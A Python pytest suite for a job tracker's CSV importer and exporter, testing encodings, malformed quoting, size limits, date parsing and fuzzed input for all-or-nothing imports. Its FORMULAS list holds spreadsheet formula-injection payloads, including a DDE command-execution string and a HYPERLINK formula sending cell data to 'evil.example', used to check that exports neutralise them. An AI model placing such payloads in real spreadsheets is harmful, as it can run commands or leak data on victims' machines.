"""Hostile CSV corpus: every awkward file imports whole or is refused whole, by row and column."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import datetime as dt
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, find, given, settings
from hypothesis import strategies as st

from jobtracker.errors import InputFileError
from jobtracker.exchange.csv_export import write_csv
from jobtracker.exchange.csv_import import CsvImport, read_csv
from jobtracker.tracker import ApplicationInput, Tracker

FORMULAS = ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            '=HYPERLINK("http://evil.example/?"&A1,"Click")', "\t=1", "\r=1")


@dataclasses.dataclass(frozen=True)
class Refused:
    """What a refusal must say: the row, the column header (or None) and a phrase."""

    row: int | None
    column: str | None
    match: str


@dataclasses.dataclass(frozen=True)
class Imported:
    """A file that imports whole: how many applications, and a check of what was read."""

    count: int
    check: Callable[[CsvImport], bool] = lambda _result: True


def _csv(*rows: list[str], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def _first(result: CsvImport) -> tuple[str, str]:
    app = result.records[0].application
    return app.company, app.title


_TEXT = "Company,Title\r\nSociété Générale,Ingénieur 日本 🚀\r\n"
_READ_BACK = ("Société Générale", "Ingénieur 日本 🚀")

# name -> (file bytes, what must happen). Files are made here rather than kept under
# tests/data: each stays readable next to the outcome it must have.
CORPUS: dict[str, tuple[bytes, Refused | Imported]] = {
    "empty": (b"", Refused(None, None, "the file is empty")),
    "only blank lines": (b"\r\n \r\n\t\r\n", Refused(None, None, "the file is empty")),
    "only a BOM": (codecs.BOM_UTF8, Refused(None, None, "the file is empty")),
    "header only": (b"Company,Title\r\n", Refused(2, None, "no applications after the header")),
    "header only with a BOM": (codecs.BOM_UTF8 + b"Company,Title\r\n",
                               Refused(2, None, "no applications after the header")),
    "UTF-8 with a BOM": (codecs.BOM_UTF8 + _TEXT.encode(),
                         Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-8 without a BOM": (_TEXT.encode(), Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-16 LE with a BOM": (_TEXT.encode("utf-16"),
                             Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-16 BE with a BOM": (codecs.BOM_UTF16_BE + _TEXT.encode("utf-16-be"),
                             Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-16 LE without a BOM": (_TEXT.encode("utf-16-le"),
                                Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-16 BE without a BOM": (_TEXT.encode("utf-16-be"),
                                Imported(1, lambda r: _first(r) == _READ_BACK)),
    "UTF-16 with a broken surrogate": (
        codecs.BOM_UTF16_LE + "Company,Title\r\nA,B".encode("utf-16-le") + b"\x00\xd8"
        + "x\r\n".encode("utf-16-le"),
        Refused(2, None, "not valid UTF-16")),
    "Latin-1": ("Company,Title\r\nCafé Grün,Kellnerin (m/w/d) ½ Stelle\r\n".encode("latin-1"),
                Imported(1, lambda r: _first(r) == ("Café Grün", "Kellnerin (m/w/d) ½ Stelle")
                         and "Windows-1252" in r.warnings[0])),
    "bytes no encoding can read": (b"Company,Title\r\nA,B\r\nC,D\x81\r\n",
                                   Refused(3, None, r"byte 23 \(0x81\).*UTF-8 CSV")),
    "a short row": (b"Company,Title,Location\r\nA,B,C\r\nD,E\r\n",
                    Refused(3, "Location", "row has 2 cells, the header has 3")),
    "a long row": (b"Company,Title\r\nA,B\r\nC,D,E,F\r\n",
                   Refused(3, None, "row has 4 cells, the header has 2")),
    "long rows with empty extra cells": (b"Company,Title\r\nA,B,,\r\nC,D,\r\n", Imported(2)),
    "a 1,000,000-character note": (
        _csv(["Company", "Title", "Notes"], ["A", "B", "ü" * 1_000_000]),
        Imported(1, lambda r: r.records[0].notes[0][0] == "ü" * 1_000_000)),
    "a 1 MiB description": (_csv(["Company", "Title", "Description"], ["A", "B", "x" * 2**20]),
                            Refused(2, "Description", "longer than 1000000 characters")),
    "a 1 MiB title": (_csv(["Company", "Job Title"], ["A", "x" * 2**20]),
                      Refused(2, "Job Title", "longer than 300 characters")),
    "a 3 MiB cell": (_csv(["Company", "Title", "Notes"], ["A", "B", "x" * 3 * 2**20]),
                     Refused(2, None, "a cell is longer than 2 MiB")),
    "a NUL byte in a cell": (b"Company,Title\r\nA,B\r\nC,D\x00E\r\n",
                             Refused(3, None, "NUL bytes")),
    "a NUL in UTF-16 text": (("Company,Title\r\nA,B\r\nC,D\x00\r\n").encode("utf-16"),
                             Refused(3, None, "NUL characters")),
    "duplicate headers": (b"Company,Title,Notes,Job Title\r\nA,B,C,D\r\n",
                          Refused(1, "Job Title", "'Title' and 'Job Title' both hold")),
    "duplicate unknown headers": (
        b"Company,Title,Colour,Colour\r\nA,B,red,blue\r\n",
        Imported(1, lambda r: r.ignored_columns == ["Colour", "Colour"])),
    "an unclosed quote": (b'Company,Title\r\nA,"B\r\nC,D\r\n',
                          Refused(2, None, "never closed")),
    "a stray quote": (b'Company,Title\r\n"A"x,B\r\n', Refused(2, None, "must be doubled")),
    "formulas": (_csv(["Company", "Title", "Location", "Notes"],
                      *[[f, f, f, f] for f in FORMULAS]),
                 Imported(len(FORMULAS), lambda r: [rec.application.title for rec in r.records]
                          == [f.strip() for f in FORMULAS])),
}


def _outcome(tracker: Tracker, path: Path) -> CsvImport | InputFileError:
    """Read and save as the CLI does; the refusal when there is one."""
    try:
        result = read_csv(path, stages=tracker.stages(), today=tracker.today())
    except InputFileError as error:
        return error
    tracker.import_records(result.records)
    return result


def check_refusal(error: InputFileError) -> None:
    """The shape every refusal has: one line, and where the problem is, first."""
    message = str(error)
    assert "\n" not in message and "Traceback" not in message
    assert error.reason and error.reason in message
    where = ", ".join(([f"row {error.row}"] if error.row is not None else [])
                      + ([f"column {error.column!r}"] if error.column is not None else []))
    assert message == (f"{where}: {error.reason}" if where else error.reason)
    if error.row is None:  # only a whole-file problem has no row
        assert re.search(r"empty|too large|cannot read|encoding", error.reason), message


@pytest.mark.parametrize("name", list(CORPUS))
def test_corpus_file_imports_whole_or_is_refused_whole(tracker: Tracker, tmp_path: Path,
                                                       name: str) -> None:
    data, expected = CORPUS[name]
    path = tmp_path / "hostile.csv"
    path.write_bytes(data)
    before = tracker.count_applications()
    outcome = _outcome(tracker, path)
    if isinstance(expected, Refused):
        assert isinstance(outcome, InputFileError), f"{name} was imported"
        check_refusal(outcome)
        assert (outcome.row, outcome.column) == (expected.row, expected.column)
        assert re.search(expected.match, outcome.reason), outcome
        assert tracker.count_applications() == before
    else:
        assert isinstance(outcome, CsvImport), f"{name} was refused: {outcome}"
        assert len(outcome.records) == expected.count
        assert expected.check(outcome), name
        assert tracker.count_applications() == before + expected.count


def test_formulas_are_kept_literally_and_neutralised_on_export(tracker: Tracker,
                                                               tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(CORPUS["formulas"][0])
    assert isinstance(_outcome(tracker, path), CsvImport)
    rows = {row.title: row for row in tracker.iter_applications()}
    for formula in FORMULAS:
        saved = rows[formula.strip()]
        assert (saved.company, saved.location) == (formula.strip(), formula.strip())
    out = io.StringIO(newline="")
    write_csv(tracker.iter_applications(), out)
    exported = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for row in exported[1:]:
        for cell in row[1:3] + row[6:7]:  # company, title, location
            # A spreadsheet runs a cell starting with = + - @ (TAB and CR are stripped
            # first by some): every one must start with the quote that makes it text.
            assert cell.startswith("'"), cell
    assert {row[2][1:] for row in exported[1:]} == {f.strip() for f in FORMULAS}


# -- dates ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("cells", "expected"), [
    (["2026-11-03"], dt.date(2026, 11, 3)),
    (["2026-11-03T10:00:00Z"], dt.date(2026, 11, 3)),
    (["3 Nov 2026"], dt.date(2026, 11, 3)),
    (["November 3, 2026"], dt.date(2026, 11, 3)),
    (["11/03/2026"], dt.date(2026, 11, 3)),  # US order when nothing says otherwise
    (["03/11/2026", "25/11/2026"], dt.date(2026, 11, 3)),  # a 25 makes the file day-first
    (["03.11.2026"], dt.date(2026, 11, 3)),  # dots are always day-first
])
def test_dates_in_the_supported_forms_round_trip(tracker: Tracker, tmp_path: Path,
                                                 cells: list[str], expected: dt.date) -> None:
    path = tmp_path / "dates.csv"
    path.write_bytes(_csv(["Company", "Title", "Date Applied"],
                          *[["Acme", f"Job {i}", cell] for i, cell in enumerate(cells)]))
    assert isinstance(_outcome(tracker, path), CsvImport)
    saved = {row.title: row.applied_on for row in tracker.iter_applications()}
    assert saved["Job 0"] == expected
    out = io.StringIO(newline="")
    write_csv(tracker.iter_applications(), out)
    assert expected.isoformat() in out.getvalue()


@pytest.mark.parametrize("text", ["20261103", "3/11", "Nov 2026", "2026-02-30", "31/02/2026",
                                  "next Tuesday", "2026-11-03 Z garbage", "11/03/2026/1",
                                  "2026-11-29"])
def test_other_date_forms_are_refused_by_row_and_column(tracker: Tracker, tmp_path: Path,
                                                        text: str) -> None:
    path = tmp_path / "dates.csv"
    path.write_bytes(_csv(["Company", "Title", "Applied On"], ["Acme", "Fine", "2026-01-01"],
                          ["Acme", "Bad", text]))
    outcome = _outcome(tracker, path)
    assert isinstance(outcome, InputFileError), f"{text!r} was read as a date"
    check_refusal(outcome)
    assert (outcome.row, outcome.column) == (3, "Applied On")
    assert tracker.count_applications() == 0


def test_mixed_day_and_month_first_dates_are_refused(tracker: Tracker, tmp_path: Path) -> None:
    path = tmp_path / "dates.csv"
    path.write_bytes(_csv(["Company", "Title", "Applied"], ["A", "1", "25/11/2026"],
                          ["A", "2", "11/25/2026"]))
    outcome = _outcome(tracker, path)
    assert isinstance(outcome, InputFileError)
    check_refusal(outcome)
    assert (outcome.row, outcome.column) == (3, "Applied")
    assert tracker.count_applications() == 0


# -- size ----------------------------------------------------------------------------------


def test_a_hundred_thousand_rows_are_refused_whole_by_their_last_row(tracker: Tracker,
                                                                      tmp_path: Path) -> None:
    # Importing 100,000 rows whole took 36 s on this 2-core machine (about 15 s reading,
    # 20 s inserting), too long for every run; reading them all and refusing the last
    # proves the file is read to its end and that nothing of it is saved.
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(["Company", "Title", "Status", "Date Applied"])
        writer.writerows([f"Company {n % 997}", f"Engineer {n}", "Applied", "2026-10-01"]
                         for n in range(1, 100_000))
        writer.writerow(["Company 0", "Engineer 100000", "Applied", "2027-01-01"])
    tracker.add_application(ApplicationInput(title="Already here", company="Kept"))
    outcome = _outcome(tracker, path)
    assert isinstance(outcome, InputFileError)
    check_refusal(outcome)
    assert (outcome.row, outcome.column) == (100_001, "Date Applied")
    assert "2027-01-01 is in the future" in str(outcome)
    assert tracker.count_applications() == 1


# -- fuzzing -------------------------------------------------------------------------------

# Edits of the bytes: mostly the characters CSV and the decoders care about.
_CHUNKS = st.one_of(st.sampled_from([b'"', b",", b";", b"\t", b"\r\n", b"\n", b"\r", b"'",
                                     b"=", b"\xff", b"\xc3", b"\xef\xbb\xbf", b" "]),
                    st.binary(min_size=1, max_size=4))
_MUTATIONS = st.lists(st.tuples(st.sampled_from(["insert", "delete", "replace", "dup-line"]),
                                st.integers(min_value=0, max_value=10**6), _CHUNKS),
                      max_size=3)


def _mutate(data: bytes, mutations: list[tuple[str, int, bytes]]) -> bytes:
    for kind, where, chunk in mutations:
        at = where % (len(data) + 1)
        if kind == "insert":
            data = data[:at] + chunk + data[at:]
        elif kind == "delete":
            data = data[:at] + data[at + len(chunk):]
        elif kind == "replace":
            data = data[:at] + chunk + data[at + len(chunk):]
        else:
            lines = data.split(b"\n")
            line = lines[where % len(lines)]
            lines.insert(where % len(lines), line)
            data = b"\n".join(lines)
    return data


def _check_all_or_nothing(tracker: Tracker, path: Path) -> None:
    """The property: a refusal in the documented shape, or every row saved; never half."""
    before = tracker.count_applications()
    try:
        result = read_csv(path, stages=tracker.stages(), today=tracker.today())
    except InputFileError as error:
        check_refusal(error)
        assert tracker.count_applications() == before
        return
    # What read_csv accepts, the tracker saves: a refusal now would name a "record",
    # not the row and column the user can find.
    ids = tracker.import_records(result.records)
    assert len(ids) == len(result.records)
    assert tracker.count_applications() == before + len(ids)


_FUZZ = settings(max_examples=120, deadline=None, derandomize=True, database=None,
                 suppress_health_check=[HealthCheck.function_scoped_fixture,
                                        HealthCheck.too_slow])


@_FUZZ
@given(data=st.one_of(st.binary(max_size=300),
                      # The characters CSV syntax is made of, densely: quoting errors.
                      st.text(st.sampled_from(list('",;\t\r\n \'=ab1é\ufeff')), max_size=60)
                      .map(lambda t: f"Company,Title\r\n{t}".encode()),
                      st.binary(max_size=200).map(lambda b: b"Company,Title\r\n" + b),
                      st.text(max_size=200).map(lambda t: f"Company,Title\r\n{t}".encode()),
                      st.text(max_size=100).map(lambda t: t.encode("utf-16"))))
def test_any_bytes_are_imported_whole_or_refused_in_shape(tracker: Tracker, tmp_path: Path,
                                                          data: bytes) -> None:
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    _check_all_or_nothing(tracker, path)


# Per column, values a real sheet holds; the fuzzer then spoils a few cells and bytes.
_VALID: dict[str, st.SearchStrategy[str]] = {
    "Status": st.sampled_from(["", "Applied", "Rejected", "wishlist", "Interviewing", "Offer"]),
    # A date after TODAY must be refused by read_csv (with its row), not later by the
    # tracker: the fuzzer checks that the second never happens.
    "Date Applied": st.sampled_from(["", "2026-11-03", "3 Nov 2026", "11/03/2026",
                                     "2026-01-31T10:00:00Z", "2027-01-01"]),
    "Last change": st.sampled_from(["", "2026-11-20", "Nov 29, 2026"]),
    "Follow up": st.sampled_from(["", "2026-12-01", "December 1, 2026", "n/a"]),
    "Salary": st.sampled_from(["", "$120,000 - $150,000 / year", "62.50 EUR/hour", "DOE"]),
    "Salary min": st.sampled_from(["", "100000", "62.50", "1.234,56"]),
    "Currency": st.sampled_from(["EUR", "usd"]),
    "Priority": st.sampled_from(["", "1", "5", "★★★"]),
    "URL": st.sampled_from(["", "https://example.com/job?a=1,2", "www.example.com"]),
    "Tags": st.sampled_from(["", "python, remote", "a; b", "日本"]),
    "Remote": st.sampled_from(["", "remote", "hybrid", "yes"]),
    "Job Type": st.sampled_from(["", "full-time", "contract", "Intern"]),
    "Notes": st.text(max_size=30),
    "Description": st.text(max_size=30),
    "Location": st.text(max_size=20),
}
_SPOILED = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["13/01/2026", "01/13/2026", "2027-01-01", "Nov 2026", "$1 - $0", "XXX",
                     "9", "javascript:x", "=1+1", "'@x", "\x00", "\ufeff", '"', "a\r\nb",
                     "1" * 30, "Ghosted", "2026-02-29"]),
)


@st.composite
def _sheets(draw: st.DrawFn) -> bytes:
    """A plausible sheet in some encoding and delimiter, a few cells spoiled, bytes edited."""
    # Always a date the tracker would refuse later if read_csv let it through.
    extra = ["Date Applied", *draw(st.lists(st.sampled_from(sorted(set(_VALID) - {
        "Date Applied"})), max_size=5, unique=True))]
    header = ["Company", "Title", *extra]
    rows = [[draw(st.text(min_size=1, max_size=12)), draw(st.text(min_size=1, max_size=12)),
             *(draw(_VALID[name]) for name in extra)]
            for _ in range(draw(st.integers(min_value=1, max_value=4)))]
    # Half the sheets stay clean before the byte edits, so that a single bad value (a
    # future date) is often the only problem and has to be caught by itself.
    spoils = st.lists(st.tuples(st.integers(0, 99), st.integers(0, 99), _SPOILED), max_size=2)
    for row, column, cell in draw(st.one_of(st.just([]), spoils)):
        rows[row % len(rows)][column % len(header)] = cell
    if draw(st.booleans()):  # a cell past the header's end
        rows[-1].append(draw(st.sampled_from(["", "x"])))
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=draw(st.sampled_from([",", ";", "\t"])),
                        lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    mutations = draw(st.one_of(st.just([]), _MUTATIONS))
    return _mutate(buffer.getvalue().encode(encoding, errors="replace"), mutations)


@_FUZZ
@given(data=_sheets())
def test_spoiled_sheets_are_imported_whole_or_refused_in_shape(tracker: Tracker, tmp_path: Path,
                                                               data: bytes) -> None:
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    _check_all_or_nothing(tracker, path)


@pytest.mark.parametrize("imports", [True, False])
def test_the_sheet_fuzzer_reaches_both_outcomes(tracker: Tracker, tmp_path: Path,
                                                imports: bool) -> None:
    # Guards the property test against generating only refusals (or only clean files).
    def outcome(data: bytes) -> bool:
        path = tmp_path / "probe.csv"
        path.write_bytes(data)
        try:
            read_csv(path, stages=tracker.stages(), today=tracker.today())
        except InputFileError:
            return not imports
        return imports

    # No shrinking: any example will do, and shrinking one costs seconds.
    find(_sheets(), outcome, settings=settings(derandomize=True, database=None,
                                               max_examples=300, phases=[Phase.generate]))
